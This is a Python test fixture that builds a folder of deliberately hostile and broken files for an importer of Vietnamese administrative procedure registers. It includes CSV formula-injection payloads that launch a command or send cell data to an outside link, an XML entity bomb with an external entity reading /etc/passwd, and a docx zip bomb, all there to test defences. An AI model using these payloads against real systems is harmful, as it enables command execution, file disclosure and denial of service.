"""A folder that no reader may trust: each file attacks or breaks in its own way."""

from __future__ import annotations

import unicodedata

from . import plan
from .bomb import word_bomb
from .compound import encrypted_shell
from .good import procedures as listed_procedures
from .registers import Record, Register, delimited, workbook

UNIT = """\
name: UBND xã Minh Giang Hạ
code: H99.104
level: commune
province: tỉnh Minh Giang
fields: [Hộ tịch]
applies_iso: false
period: {from: 2026-01-01, to: 2026-11-22}
exports:
  postings: ../good/so-niem-yet.xlsx
"""
INJECTIONS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1;"Xem chi tiết")',
)
COLUMNS = {
    "Mã TTHC": "code",
    "Tên thủ tục": "name",
    "Lĩnh vực": "field",
    "Cấp thực hiện": "levels",
    "Số quyết định": "decision_no",
    "Tình trạng": "change",
}
_ENTITIES = "\n".join(f'  <!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
XML_BOMB = f"""\
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE thuTuc [
  <!ENTITY a0 "Thủ tục hành chính ">
{_ENTITIES}
  <!ENTITY ngoai SYSTEM "file:///etc/passwd">
]>
<danhMuc><thuTuc><ma>9.990001</ma><ten>&a9;&ngoai;</ten></thuTuc></danhMuc>
"""
_TONES = "\u0300\u0301\u0303\u0309\u0323"
PDF = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj
trailer<</Root 1 0 R>>
%%EOF
"""
_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels"'
    b' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="png" ContentType="image/png"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


def files() -> dict[str, bytes]:
    """The unit's files by their path in its folder."""
    whole = workbook(listed_procedures())
    return {
        "unit.yaml": UNIT.encode(),
        "niem-yet-mat-khau.xlsx": encrypted_shell(),
        "danh-muc-bi-cat.xlsx": whole[: len(whole) // 2],
        "thu-tuc-ma-cu.csv": _windows_1258(_listing(plan.in_scope()[:3])),
        "thu-tuc-tiem-lenh.csv": delimited(Register("", (), COLUMNS, _injected())),
        "thu-tuc-thuc-the.xml": XML_BOMB.encode(),
        "quyet-dinh-cong-thuc.xlsx": workbook(_formulas()),
        "tep-rong.xlsx": b"",
        "documents/bom-nen.docx": word_bomb(
            {"[Content_Types].xml": _CONTENT_TYPES, "_rels/.rels": _RELATIONS}, copies=10
        ),
        "documents/thuc-ra-la-pdf.docx": PDF,
        "documents/chu-tho.docx": "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\r\n".encode(),
        "documents/tep-rong.docx": b"",
    }


def _injected() -> list[Record]:
    return [
        {
            "code": f"9.99000{number}",
            "name": name,
            "field": "Hộ tịch",
            "levels": "Cấp xã",
            "decision_no": "612/QĐ-UBND",
            "change": "Mới",
        }
        for number, name in enumerate(INJECTIONS, start=1)
    ]


def _formulas() -> Register:
    """Effective dates as formulas that no program has ever worked out."""
    columns = {"Số QĐ": "decision_no", "Ngày ký": "signed_on", "Ngày hiệu lực": "effective_on"}
    rows = [
        {**row, "effective_on": f"=C{number}+7"}
        for number, row in enumerate(plan.decisions(), start=2)
    ]
    return Register("QĐ", (), columns, rows)


def _listing(rows: list[Record]) -> str:
    lines = [";".join(COLUMNS)]
    lines += [";".join(str(row[field]) for field in COLUMNS.values()) for row in rows]
    return "\r\n".join([*lines, ""])


def _windows_1258(text: str) -> bytes:
    """The old Vietnamese code page: the tone marks stand behind their letters."""
    return b"".join(_letter_1258(letter) for letter in unicodedata.normalize("NFC", text))


def _letter_1258(letter: str) -> bytes:
    try:
        return letter.encode("cp1258")
    except UnicodeEncodeError:
        parts = unicodedata.normalize("NFD", letter)
        tone = "".join(part for part in parts if part in _TONES)
        bare = "".join(part for part in parts if part not in _TONES)
        return (unicodedata.normalize("NFC", bare) + tone).encode("cp1258")
